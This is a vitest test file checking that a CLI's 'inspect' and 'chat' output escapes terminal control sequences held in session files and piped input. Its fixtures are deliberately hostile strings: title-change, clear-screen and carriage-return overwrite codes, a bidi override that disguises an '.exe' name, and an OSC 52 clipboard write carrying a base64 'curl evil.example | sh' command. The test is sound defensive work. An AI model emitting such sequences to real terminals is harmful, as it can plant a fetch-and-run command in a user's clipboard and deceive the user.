// Finding 9 (part): "`inspect` prints terminal escape sequences from a file (window title, clear
// screen, OSC 52 clipboard write): escape them."
//
// A session whose prompt, answer and label carry an OSC 0 title change, a CSI 2J clear screen
// (ESC form and the one-byte C1 form U+009B), an OSC 52 clipboard write, a carriage return that
// would overwrite the line and a bidi override that would reverse what follows it.
import { mkdirSync, mkdtempSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { describe, expect, it } from 'vitest'
import { SessionStore } from '../../src/core/session/store'
import { runCli } from '../support/cli'

const TITLE = '\u001b]0;you have been pwned\u0007'
const CLEAR = '\u001b[2J\u009b2J'
const CLIPBOARD = '\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007'
const OVERWRITE = '\rall good'
const REVERSED = '\u202egnp.exe'
/** Anything a terminal acts on or reorders by: C0 but \n, DEL, C1, bidi controls. */
// eslint-disable-next-line no-control-regex -- looking for control characters is the point
const ACTIVE = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u200e\u200f\u202a-\u202e\u2066-\u2069]/

function sessionFile(): string {
  const home = mkdtempSync(join(tmpdir(), 'rs-inspect-esc-'))
  const store = SessionStore.create({ home, cwd: join(home, 'ws') })
  const prompt = store.appendMessage({
    role: 'user',
    content: `fix it${TITLE}${CLEAR}${OVERWRITE}`
  })
  store.appendMessage({ role: 'assistant', content: [{ type: 'text', text: `ok${CLIPBOARD}` }] })
  store.appendLabel({ targetUuid: prompt.uuid, label: `look${REVERSED}` })
  store.close()
  return store.file
}

describe('inspect prints what a session file holds, escaped', () => {
  it('as text: no escape sequence, carriage return or bidi override reaches the terminal', async () => {
    const run = await runCli(['inspect', sessionFile()])
    expect(run.code).toBe(0)
    expect(run.stdout).not.toMatch(ACTIVE)
    expect(run.stdout).toContain(
      'prompt: fix it\\x1b]0;you have been pwned\\x07\\x1b[2J\\x9b2J all good'
    )
    expect(run.stdout).toContain('ok\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07')
    expect(run.stdout).toContain('[look\\u202egnp.exe]')
  })

  it('as JSON: the same characters as \\u escapes, still valid JSON', async () => {
    const run = await runCli(['inspect', sessionFile(), '--json'])
    expect(run.code).toBe(0)
    expect(run.stdout).not.toMatch(ACTIVE)
    const parsed = JSON.parse(run.stdout) as { checkpoints: { prompt: string }[] }
    expect(parsed.checkpoints[0]?.prompt).toBe(`fix it${TITLE}${CLEAR}${OVERWRITE}`)
  })
})

describe('chat prints what a pipe gave it, escaped', () => {
  it('echoes a piped prompt and a piped /label line with no escape sequence in them', async () => {
    const base = mkdtempSync(join(tmpdir(), 'rs-chat-esc-'))
    const home = join(base, 'home')
    const cwd = join(base, 'ws')
    mkdirSync(cwd)
    const run = await runCli(['chat', '--cwd', cwd], {
      input: `add TIMEOUT = 30 to config.py${TITLE}\n/label 1 look${CLIPBOARD}\n/exit\n`,
      env: { REWIND_STUDIO_HOME: home }
    })
    expect(run.code, run.stderr).toBe(0)
    expect(run.stdout).toContain('❯ add TIMEOUT = 30 to config.py\\x1b]0;you have been pwned\\x07')
    expect(run.stdout).toContain('look\\x1b]52;c;')
    expect(run.stdout).not.toMatch(ACTIVE)
  })
})
